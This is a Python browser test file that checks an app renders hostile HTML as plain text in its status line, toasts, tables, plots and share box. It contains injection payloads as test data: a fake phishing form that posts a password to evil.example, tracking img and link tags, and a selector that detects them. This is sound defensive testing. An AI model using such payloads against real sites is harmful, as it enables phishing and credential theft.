"""Content injection in a real browser (issue 10, class 3): hostile text renders as text, everywhere.

A share link whose label is a phishing form, and an ESM whose task id and subset hold HTML, are
opened in headless Chromium. Every output (status line, warning toast, summary, results table,
skipped table, plots, share box) must show the text literally: no <form>, <img>, <a> or <input>
from the attacker in the DOM, and no request ever sent to the attacker's host.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from urllib.parse import quote, urlparse

import pytest
from helpers import CHROMIUM, free_port

os.environ.setdefault("HF_HUB_OFFLINE", "1")

ROOT = Path(__file__).resolve().parents[2]
POOL = "sentence-transformers__all-MiniLM-L6-v2"

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs /usr/bin/chromium (apt-get install chromium)"),
]

PHISHING = (
    '<form action="https://evil.example/login"><input name="password" placeholder="Password">'
    '<a href="https://evil.example/signin">Sign in with Hugging Face</a>'
    '<img src="https://evil.example/pixel.png"></form>'
)
TASK_ID = '<img src="https://evil.example/esm.png"><a href="https://evil.example/task">stored link</a>'
SUBSET = '<form action="https://evil.example/subset"><b>bold</b><input name="password"></form>'
COLUMN = '<img src="https://evil.example/c.png">'
# What must never appear in the DOM: the attacker's elements (SVG <a> in plots use xlink:href).
INJECTED = '[action*="evil.example"], [src*="evil.example"], [*|href*="evil.example"], input[name="password"]'


@pytest.fixture(scope="module")
def hostile_assets(tmp_path_factory):
    """Assets whose bundled pool holds two real MiniLM ESMs relabelled with HTML, plus the real examples."""
    root = tmp_path_factory.mktemp("hostile_assets")
    (root / "examples").symlink_to(ROOT / "assets" / "examples")
    pool = root / "esms" / POOL
    real = sorted((ROOT / "assets" / "esms" / POOL).iterdir())[:2]
    for i, folder in enumerate(real):
        target = pool / f"evil_{i}"
        shutil.copytree(folder, target)
        config = json.loads((target / "config.json").read_text())
        config.update(task_id=TASK_ID + str(i), task_subset=SUBSET, text_column=COLUMN, num_examples=1000 * (i + 1))
        (target / "config.json").write_text(json.dumps(config))
    broken = pool / "evil_broken"
    shutil.copytree(real[0], broken)
    config = json.loads((broken / "config.json").read_text())
    config["esm_embedding_dim"] = PHISHING  # skipped, and its reason quotes the value
    (broken / "config.json").write_text(json.dumps(config))
    return root


@pytest.fixture(scope="module")
def app_url(hostile_assets):
    import app

    previous = os.environ.get("HFSELECT_ASSETS_DIR")
    os.environ["HFSELECT_ASSETS_DIR"] = str(hostile_assets)
    app.demo.launch(prevent_thread_lock=True, server_port=free_port(), quiet=True)
    yield app.demo.local_url.rstrip("/") + "/"
    app.demo.close()
    if previous is None:
        os.environ.pop("HFSELECT_ASSETS_DIR", None)
    else:
        os.environ["HFSELECT_ASSETS_DIR"] = previous


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.evil_requests = []
    page.on("request", lambda r: page.evil_requests.append(r.url) if _host(r.url).endswith("evil.example") else None)
    yield page
    context.close()


def _host(url: str) -> str:
    return urlparse(url).hostname or ""


def _assert_nothing_injected(page) -> None:
    found = page.evaluate(f"() => Array.from(document.querySelectorAll('{INJECTED}')).map(e => e.outerHTML)")
    assert found == [], found
    assert page.evil_requests == [], page.evil_requests


def test_hostile_share_link_renders_as_text(page, app_url):
    seed = int.from_bytes(os.urandom(3), "big")
    page.goto(f"{app_url}?example=product_reviews&autorun=1&seed={seed}&label={quote(PHISHING)}")
    status = page.locator("#rank-status")
    status.get_by_text("does not exist").wait_for()
    # The status line shows the attacker's markup as characters.
    assert (
        '❌ The label column \'<form action="https://evil.example/login"><input name="password"' in status.inner_text()
    )
    # The warning toast too.
    toast = page.locator(".toast-body, [data-testid='toast-body']").first
    toast.wait_for()
    assert "evil.example/login" in toast.inner_text()
    # The share box holds the link as plain text.
    page.wait_for_function("() => document.querySelector('#share-link textarea')?.value.includes('evil.example')")
    _assert_nothing_injected(page)


def test_hostile_esm_config_renders_as_text(page, app_url):
    seed = int.from_bytes(os.urandom(3), "big")
    page.goto(f"{app_url}?example=product_reviews&autorun=1&n=40&seed={seed}&pool=bundled")
    summary = page.locator("#summary")
    page.wait_for_function(
        "() => /Top candidate|❌/.test(document.querySelector('#summary')?.innerText + "
        "document.querySelector('#rank-status')?.innerText)",
        timeout=120_000,
    )
    assert "Top candidate" in summary.inner_text(), page.locator("#rank-status").inner_text()
    assert '<img src="https://evil.example/esm.png">' in summary.inner_text()
    assert '<form action="https://evil.example/subset">' in summary.inner_text()
    results = page.locator("#results")
    results.get_by_text("evil.example/esm.png").first.wait_for(state="attached")
    page.locator("#bar-plot .js-plotly-plot").wait_for()
    page.wait_for_function(
        # The axis shows the name cut short (plots.MAX_LABEL_CHARS), as text.
        "() => document.querySelector('#bar-plot .js-plotly-plot')?.textContent.includes('<img src=\"https://evi')"
    )
    page.get_by_text("Skipped ESMs").click()  # the accordion renders its table when opened
    page.get_by_text("evil_broken").first.wait_for(state="attached")
    skipped = page.evaluate("() => Array.from(document.querySelectorAll('table')).map(t => t.textContent).join(' ')")
    assert "config 'esm_embedding_dim' must be a number, found the text '<form action" in skipped
    _assert_nothing_injected(page)


def test_hostile_upload_renders_as_text(page, app_url, tmp_path):
    """Column names and cells of an uploaded file reach the preview table, the column pickers and
    the messages: all as text."""
    path = tmp_path / "hostile.csv"
    column = '<img src="https://evil.example/col.png">'
    cell = '<a href="https://evil.example/cell">cell link</a><form action="https://evil.example/c"></form>'
    path.write_text(f'text,"{column.replace(chr(34), chr(34) * 2)}"\n"{cell.replace(chr(34), chr(34) * 2)}",1\n')
    page.goto(app_url)
    page.get_by_role("tab", name="Upload a file").click()
    with page.expect_file_chooser() as chooser:
        page.locator("button:visible", has_text="Click to Upload").first.click()
    chooser.value.set_files(str(path))
    page.wait_for_function("() => /1 rows, 2 columns|⚠️/.test(document.body.innerText)")
    assert "1 rows, 2 columns" in page.inner_text("body"), page.inner_text("body")[-1500:]
    page.wait_for_function("() => document.body.textContent.includes('evil.example/cell')")
    page.locator("#label-column input").click()
    page.get_by_text(column, exact=False).first.wait_for(state="attached")
    _assert_nothing_injected(page)
